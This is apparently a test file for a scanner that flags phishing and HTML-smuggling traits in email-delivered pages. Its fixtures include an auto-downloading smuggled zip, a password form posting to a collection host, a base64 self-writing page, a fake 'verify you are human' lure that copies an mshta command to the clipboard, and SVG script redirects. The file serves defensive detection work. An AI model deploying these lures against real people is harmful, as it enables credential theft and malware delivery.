import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { changeAtRandom } from "../../../formats/change-at-random.test-support.ts";
import { writeModules } from "../../../formats/qr/qr.test-support.ts";
import { lookAt } from "../look.test-support.ts";
import { pageContent } from "./page-content.ts";

const see = (name: string, content: string) => lookAt([pageContent], name, content);
const zip = Buffer.from(`504b03040a000000000000002100000000000000000000000000090000006${"1".repeat(161)}`, "hex");
const smuggling = `<!doctype html><html><body><script>var b=new Blob([atob("${zip.toString("base64")}")]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="Statement.zip";a.click()</script></body></html>`;

describe("a page in a delivery", () => {
  it("that builds a file gives the file", async () => {
    const { contents, files } = await see("Statement.html", smuggling);
    assert.deepEqual(contents, ["builds-file: Statement.zip", "hands-over-file: Statement.zip"]);
    assert.equal(files.get("Statement.zip"), zip.toString("latin1"));
  });

  it("that asks for a password and sends it away", async () => {
    const page = `<!doctype html><title>Sign in</title><form action="https://collect.example/a"><input type=email><input type=password></form>`;
    assert.deepEqual((await see("a.html", page)).contents, [
      "secret-field: password",
      "lure-text: Sign in",
      "sends-input: https://collect.example/a",
    ]);
    const saved = `<!doctype html><!-- saved from url=(0027)https://collect.example/login -->${page}`;
    assert.deepEqual((await see("a.html", saved)).contents, [
      "secret-field: password",
      "lure-text: Sign in",
      "form-posts: https://collect.example/a",
    ]);
  });

  it("that writes itself from an encoded page gives that page", async () => {
    const inner = `<html><body><form action="https://collect.example/a"><input type=password></form></body></html>`;
    const page = `<html><script>document.write(atob("${Buffer.from(inner).toString("base64")}"))</script></html>`;
    const { contents, files } = await see("a.html", page);
    assert.deepEqual(contents, ["decodes-itself: shown-by-a-1.html"]);
    assert.equal(files.get("shown-by-a-1.html"), inner);
  });

  it("that has a command pasted", async () => {
    const page = `<!doctype html><p>Verify you are human</p><ol><li>Press <b>Win + R</b><li>Press Ctrl+V</ol><script>navigator.clipboard.writeText("mshta https://fix.example/a")</script>`;
    assert.deepEqual((await see("a.html", page)).contents, [
      "writes-clipboard: mshta https://fix.example/a",
      "lure-text: Press Win + R",
      "lure-text: Press Ctrl+V",
      "lure-text: Verify you are human",
    ]);
  });

  it("that only leads on is like a shortcut", async () => {
    assert.deepEqual(
      (await see("a.html", `<html><meta http-equiv="refresh" content="0;url=https://a.example/x"></html>`)).contents,
      ["redirects: https://a.example/x", "opens-address: https://a.example/x"],
    );
  });

  it("that is a drawing tells its script", async () => {
    const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="a()"><circle r="1"/><script>location.href="https://a.example/"</script></svg>`;
    assert.deepEqual((await see("logo.svg", drawing)).contents, [
      "page-script: a()",
      'page-script: location.href="https://a.example/"',
      "redirects: https://a.example/",
      "opens-address: https://a.example/",
    ]);
    assert.deepEqual(
      (await see("logo.svg", `<svg xmlns="http://www.w3.org/2000/svg"><style>.a{fill:red}</style></svg>`)).contents,
      [],
    );
  });

  it("has its links told, each once", async () => {
    const page = `<html><a href="https://a.example/x">one</a><a href="https://a.example/x">two</a><a href="#top">up</a><a href="mailto:a@b.example">mail</a></html>`;
    assert.deepEqual((await see("a.html", page)).contents, ["link: https://a.example/x"]);
  });

  it("that is other XML says nothing", async () => {
    assert.deepEqual(
      (await see("feed.xml", `<?xml version="1.0"?><feed><link href="https://a.example/"/></feed>`)).contents,
      [],
    );
  });
});

describe("a code that a page draws", () => {
  const address = "https://scan.example/login?a=1";

  it("with the cells of a table is read", async () => {
    const { width, luminance } = await writeModules(address);
    const rows: string[] = [];
    for (let y = 0; y < width; y += 1) {
      const cells = [...luminance.subarray(y * width, (y + 1) * width)].map(
        (value) => `<td bgcolor="${value === 0 ? "#000000" : "#ffffff"}">`,
      );
      rows.push(`<tr>${cells.join("</td>")}</td></tr>`);
    }
    const { contents } = await see("a.html", `<html><table cellspacing=0>${rows.join("")}</table></html>`);
    assert.deepEqual(contents, [`qr-code: ${address}`]);
  });

  it("with cells that stand for runs is read", async () => {
    const { width, luminance } = await writeModules(address);
    const rows: string[] = [];
    for (let y = 0; y < width; y += 1) {
      let row = "<tr>";
      for (let x = 0; x < width;) {
        let run = 1;
        while (x + run < width && luminance[y * width + x + run] === luminance[y * width + x]) run += 1;
        row += `<td colspan=${run} class="${luminance[y * width + x] === 0 ? "d" : "l"}"></td>`;
        x += run;
      }
      rows.push(`${row}</tr>`);
    }
    const { contents } = await see(
      "a.html",
      `<html><style>.d{background:#111}.l{background:#fff}</style><table>${rows.join("")}</table></html>`,
    );
    assert.deepEqual(contents, [`qr-code: ${address}`]);
  });

  for (const [what, letters] of [
    ["blocks", ["  ", "██"]],
    ["half blocks", []],
  ] as const)
    it(`with ${what} is read`, async () => {
      const { width, luminance } = await writeModules(address);
      const isDark = (x: number, y: number) => y < width && luminance[y * width + x] === 0;
      const lines: string[] = [];
      for (let y = 0; y < width; y += letters.length === 0 ? 2 : 1) {
        let line = "";
        for (let x = 0; x < width; x += 1)
          line +=
            letters.length > 0
              ? (letters[isDark(x, y) ? 1 : 0] ?? "")
              : isDark(x, y)
                ? isDark(x, y + 1)
                  ? "█"
                  : "▀"
                : isDark(x, y + 1)
                  ? "▄"
                  : " ";
        lines.push(line);
      }
      const { contents } = await see("a.html", `<html><pre>${lines.join("\n")}</pre></html>`);
      assert.deepEqual(contents, [`qr-code: ${address}`]);
    });

  it("is not seen in an ordinary table", async () => {
    const rows = `<tr>${"<td bgcolor=#eee>1</td>".repeat(8)}</tr>`.repeat(60);
    assert.deepEqual((await see("a.html", `<html><table>${rows}</table></html>`)).contents, []);
  });
});

describe("hostile pages", () => {
  it("never make the reader throw", async () => {
    for (const name of ["a.html", "a.svg", "a.xhtml"])
      for (const changed of changeAtRandom(Buffer.from(smuggling), 200)) await lookAt([pageContent], name, changed);
  });
});
